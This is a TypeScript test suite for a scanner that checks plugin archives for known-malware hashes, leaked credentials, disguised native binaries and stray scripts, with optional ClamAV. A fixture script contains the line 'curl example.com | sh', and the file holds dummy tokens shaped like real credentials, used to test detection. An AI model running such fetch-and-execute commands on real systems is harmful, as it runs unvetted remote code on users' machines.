import { createHash } from 'node:crypto';
import { chmod, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { performance } from 'node:perf_hooks';
import { secretLintProfiler } from '@secretlint/profiler';
import { describe, expect, it, vi } from 'vitest';
import { parseMalwareHashes, EICAR_SHA256 } from '../../../src/trust/scanning/malware';
import { ScanConfigError } from '../../../src/trust/scanning/options';
import { shannonEntropy } from '../../../src/trust/scanning/secrets';
import { archiveBytes, pluginJarContent, withScratch } from '../../archive/plugin-fixtures';
import { EICAR, elfHeader, pluginZip, privateKeyPem, scan } from './scan-fixtures';

vi.setConfig({ testTimeout: 30_000 });

/** The findings as kind, severity and path: what a test reads first. */
const summary = (findings: { kind: string; severity: string; path: string }[]) =>
  findings.map(({ kind, severity, path }) => ({ kind, severity, path }));

describe('known-malware hashes', () => {
  it('reports the EICAR test file by its hash, inside a jar inside the zip too', async () => {
    const result = await scan(await pluginZip({ 'rainbow/readme.txt': 'Hello' }, { 'eicar.com': EICAR }));
    expect(createHash('sha256').update(EICAR).digest('hex')).toBe(EICAR_SHA256);
    expect(summary(result.findings)).toEqual([
      { kind: 'known-malware', severity: 'critical', path: 'rainbow/lib/rainbow.jar!/eicar.com' },
    ]);
    expect(result.findings[0]!.message).toBe(
      "This file's SHA-256 is on the list of known malware (EICAR test file).",
    );
    expect(result.engines).toEqual(['built-in']);
  });

  it("adds the operator's list, in plain or ClamAV's hash-signature form, and refuses a list it cannot read", async () => {
    const payload = Buffer.from('a payload the operator knows to be malicious');
    const hash = createHash('sha256').update(payload).digest('hex');
    await withScratch(async (folder) => {
      const plain = join(folder, 'hashes.txt');
      await writeFile(plain, `# known bad\n\n${hash} Demo.Dropper\n`);
      const found = await scan(await pluginZip({ 'rainbow/lib/tool.bin': payload }), { hashesFile: plain });
      expect(found.findings).toEqual([
        {
          kind: 'known-malware',
          severity: 'critical',
          path: 'rainbow/lib/tool.bin',
          message: "This file's SHA-256 is on the list of known malware (Demo.Dropper).",
        },
      ]);
      const hsb = join(folder, 'hashes.hsb');
      await writeFile(hsb, `${hash}:${payload.length}:Demo.Dropper.HSB\n`);
      const clamFormat = await scan(await pluginZip({ 'rainbow/x.dat': payload }), { hashesFile: hsb });
      expect(clamFormat.findings[0]?.message).toContain('(Demo.Dropper.HSB)');
    });
    expect(() => parseMalwareHashes('0123 not a hash\n', '/srv/hashes.txt')).toThrow(
      new ScanConfigError(
        '/srv/hashes.txt, line 1: "0123 not a hash" is not a SHA-256 hash (64 hexadecimal digits, optionally followed by a name) nor a ClamAV hash signature (sha256:size:name).',
      ),
    );
  });

  it('reports the archive itself when its hash is listed', async () => {
    const archive = await archiveBytes(pluginJarContent());
    const hash = createHash('sha256').update(archive).digest('hex');
    await withScratch(async (folder) => {
      const list = join(folder, 'hashes.txt');
      await writeFile(list, `${hash}\n`);
      const result = await scan(pluginJarContent(), { kind: 'jar', hashesFile: list });
      expect(summary(result.findings)).toEqual([
        { kind: 'known-malware', severity: 'critical', path: '(archive)' },
      ]);
    });
  });
});

describe('secrets committed by mistake', () => {
  it('finds private keys of every PEM kind, an RSA key and a short Ed25519 key alike', async () => {
    const result = await scan(
      await pluginZip(
        {},
        { 'keys/server.pem': privateKeyPem('rsa'), 'keys/signing.key': privateKeyPem('ed25519') },
      ),
    );
    expect(summary(result.findings)).toEqual([
      { kind: 'secret', severity: 'high', path: 'rainbow/lib/rainbow.jar!/keys/server.pem' },
      { kind: 'secret', severity: 'high', path: 'rainbow/lib/rainbow.jar!/keys/signing.key' },
    ]);
    expect(result.findings[0]!.message).toBe(
      'A private key (RSA PRIVATE KEY) on line 1. Anyone who downloads the plugin could use it: revoke the key and upload a version without it.',
    );
    // The key itself is never repeated.
    expect(JSON.stringify(result.findings)).not.toContain('MII');
  });

  it('finds an AWS access key id and says where, without repeating it', async () => {
    const result = await scan(
      await pluginZip({
        'rainbow/config/deploy.properties': 'region=eu-west-1\naws.key=AKIAZ2YQ7M4BXKQ3PLMN\n',
      }),
    );
    expect(result.findings).toEqual([
      {
        kind: 'secret',
        severity: 'high',
        path: 'rainbow/config/deploy.properties',
        message:
          'An AWS access key id (AKIA… (20 characters)) on line 2. Deactivate the key in AWS and upload a version without it.',
      },
    ]);
  });

  it("leaves AWS's documented example key alone", async () => {
    const result = await scan(await pluginZip({ 'rainbow/docs/aws.md': 'Example: AKIAIOSFODNN7EXAMPLE' }));
    expect(result.findings).toEqual([]);
  });

  it('finds the tokens of GitHub, GitLab, Slack and npm through secretlint, even behind a secretlint-disable comment', async () => {
    const text = [
      '# secretlint-disable',
      'github=ghp_1234567890abcdefghijABCDEFGHIJ123456',
      'gitlab=glpat-abcdefghij1234567890',
      'slack=xoxb-1234567890-1234567890123-AbCdEfGhIjKlMnOpQrStUvWx',
      'npm=npm_abcdefghijklmnopqrstuvwxyzABCDEF1234',
    ].join('\n');
    const result = await scan(await pluginZip({}, { 'ci/tokens.txt': text }));
    expect(result.findings.map((finding) => finding.message)).toEqual([
      'A GitHub credential (github token: ghp_… (40 characters)) on line 2. Revoke it and upload a version without it.',
      'A GitLab credential (gitlab personal access token: glpa… (26 characters)) on line 3. Revoke it and upload a version without it.',
      'A Slack credential (slack token: xoxb… (54 characters)) on line 4. Revoke it and upload a version without it.',
      'An npm credential (npm access token: npm_… (40 characters)) on line 5. Revoke it and upload a version without it.',
    ]);
    expect(new Set(result.findings.map((finding) => finding.severity))).toEqual(new Set(['high']));
  });

  it('flags a password, secret or token assigned a random-looking value, and leaves words and placeholders alone', async () => {
    const text = [
      'api.token=q8Xz3LpV9wK2mN7rT4bY6cJ1',
      'password=${DB_PASSWORD}',
      'token = readToken(settings)',
      'password.label=Password',
      'secret.version=1.2.3.4.5.6.7.8.9',
    ].join('\n');
    const result = await scan(await pluginZip({ 'rainbow/config/app.properties': text }));
    expect(summary(result.findings)).toEqual([
      { kind: 'secret', severity: 'medium', path: 'rainbow/config/app.properties' },
    ]);
    expect(result.findings[0]!.message).toMatch(
      /^"api.token" is given a random-looking value \(q8Xz… \(24 characters\), 4\.\d bits a character\) on line 1: check that it is no real secret\.$/,
    );
    expect(shannonEntropy('aaaa')).toBe(0);
    expect(shannonEntropy('abcd')).toBe(2);
  });

  it('keeps no timings of secretlint once the scans are done, however many ran at once', async () => {
    const archive = await pluginZip(
      {},
      { 'ci/tokens.txt': 'github=ghp_1234567890abcdefghijABCDEFGHIJ123456' },
    );
    const results = await Promise.all([scan(archive), scan(archive), scan(archive)]);
    expect(results.map((result) => result.findings.length)).toEqual([1, 1, 1]);
    // secretlint marks every rule of every run: kept, they grew a scanning server by megabytes an hour.
    expect(performance.getEntriesByType('mark')).toEqual([]);
    expect(performance.getEntriesByType('measure')).toEqual([]);
    expect(await secretLintProfiler.getEntries()).toEqual([]);
    expect(await secretLintProfiler.getMeasures()).toEqual([]);
  });

  it('finds a key in a constant of a class file', async () => {
    const constant = Buffer.concat([
      Buffer.from([0xca, 0xfe, 0xba, 0xbe, 0, 0, 0, 61, 0, 5, 1, 0, 20]),
      Buffer.from('AKIAZ2YQ7M4BXKQ3PLMN', 'latin1'),
    ]);
    const result = await scan(await pluginZip({}, { 'com/example/Cloud.class': constant }));
    expect(result.findings.map((finding) => finding.message)).toEqual([
      'An AWS access key id (AKIA… (20 characters)) in a constant of this class file. Deactivate the key in AWS and upload a version without it.',
    ]);
  });
});

describe('native binaries and scripts in unexpected places', () => {
  it("leaves native code in the plugin's lib/ and bin/ folders and JNI libraries in jars alone", async () => {
    const result = await scan(
      await pluginZip(
        {
          'rainbow/lib/native/linux-x64/librainbow.so': elfHeader(3),
          'rainbow/bin/rainbow-helper': elfHeader(2),
          'rainbow/bin/start.sh': '#!/bin/sh\nexec ./rainbow-helper\n',
        },
        { 'com/sun/jna/linux-x86-64/libjnidispatch.so': elfHeader(3) },
      ),
    );
    expect(result.findings).toEqual([]);
  });

  it('reports an ELF executable in an odd folder, and one dressed as an image as a disguise', async () => {
    const result = await scan(
      await pluginZip({ 'rainbow/native/helper': elfHeader(2), 'rainbow/icons/logo.png': elfHeader(2) }),
    );
    expect(result.findings).toEqual([
      {
        kind: 'native-binary',
        severity: 'high',
        path: 'rainbow/icons/logo.png',
        message:
          'This is an ELF executable (Linux) named as if it were another kind of file (logo.png); native code disguised this way is how droppers hide.',
      },
      {
        kind: 'native-binary',
        severity: 'medium',
        path: 'rainbow/native/helper',
        message:
          "This is an ELF executable (Linux) outside the plugin's lib/ and bin/ folders, where a plugin keeps native code; check what it is for.",
      },
    ]);
  });

  it('reports an executable inside a jar, and scripts by name or shebang outside bin/', async () => {
    const result = await scan(
      await pluginZip(
        { 'rainbow/install.ps1': 'Write-Host "hi"', 'rainbow/setup': '#!/bin/bash\ncurl example.com | sh\n' },
        { 'tools/helper': elfHeader(2), 'templates/gradlew.bat': '@echo off\n' },
      ),
    );
    expect(summary(result.findings)).toEqual([
      { kind: 'script', severity: 'medium', path: 'rainbow/install.ps1' },
      { kind: 'native-binary', severity: 'medium', path: 'rainbow/lib/rainbow.jar!/tools/helper' },
      { kind: 'script', severity: 'medium', path: 'rainbow/setup' },
      { kind: 'script', severity: 'low', path: 'rainbow/lib/rainbow.jar!/templates/gradlew.bat' },
    ]);
  });

  it('reports a nested archive it cannot read, and scans everything else', async () => {
    const result = await scan(
      await pluginZip({
        'rainbow/lib/broken.jar': 'not a zip at all',
        'rainbow/notes.txt': 'AKIAZ2YQ7M4BXKQ3PLMN',
      }),
    );
    expect(summary(result.findings)).toEqual([
      { kind: 'secret', severity: 'high', path: 'rainbow/notes.txt' },
      { kind: 'unreadable', severity: 'medium', path: 'rainbow/lib/broken.jar' },
    ]);
  });
});

describe('ClamAV as an optional engine', () => {
  /** A stand-in for clamscan: prints what clamscan prints for the archive and ends with its exit codes. */
  async function standIn(folder: string, script: string): Promise<string> {
    const path = join(folder, 'clamscan');
    await writeFile(path, `#!/bin/sh\n${script}\n`);
    await chmod(path, 0o755);
    return path;
  }

  it('reads "<path>: <signature> FOUND" with exit code 1 as a critical finding', async () => {
    await withScratch(async (folder) => {
      const command = await standIn(
        folder,
        [
          'if [ "$1" = "--version" ]; then echo "ClamAV 1.4.6/27470/Tue Nov 25 09:27:02 2026"; exit 0; fi',
          'for last; do :; done',
          'echo "$last: Win.Test.EICAR_HDB-1 FOUND"',
          'exit 1',
        ].join('\n'),
      );
      const result = await scan(await pluginZip(), { clamav: { command, args: [], timeoutMs: 10_000 } });
      expect(result.findings).toEqual([
        {
          kind: 'clamav',
          severity: 'critical',
          path: '(archive)',
          message: 'ClamAV reports Win.Test.EICAR_HDB-1 in the archive.',
        },
      ]);
      expect(result.engines).toEqual(['built-in', 'clamav ClamAV 1.4.6/27470/Tue Nov 25 09:27:02 2026']);
      expect(result.clamavError).toBeUndefined();
    });
  });

  it('passes an archive ClamAV calls OK (exit code 0), and reports an error (exit code 2) and the time limit', async () => {
    await withScratch(async (folder) => {
      const clean = await standIn(folder, 'for last; do :; done\necho "$last: OK"\nexit 0');
      const passed = await scan(await pluginZip(), {
        clamav: { command: clean, args: [], timeoutMs: 10_000 },
      });
      expect(passed.findings).toEqual([]);
      expect(passed.clamavError).toBeUndefined();

      const broken = join(folder, 'broken');
      await writeFile(
        broken,
        '#!/bin/sh\necho "LibClamAV Error: cli_loaddbdir(): No supported database files found in /var/lib/clamav" >&2\nexit 2\n',
      );
      await chmod(broken, 0o755);
      const failed = await scan(await pluginZip(), {
        clamav: { command: broken, args: [], timeoutMs: 10_000 },
      });
      expect(failed.clamavError).toBe(
        'ClamAV ended with exit code 2 (an error): LibClamAV Error: cli_loaddbdir(): No supported database files found in /var/lib/clamav',
      );

      const slow = await standIn(folder, 'sleep 30');
      const stopped = await scan(await pluginZip(), { clamav: { command: slow, args: [], timeoutMs: 1000 } });
      expect(stopped.clamavError).toBe('ClamAV did not finish within 1 second and was stopped.');
    });
  });
});
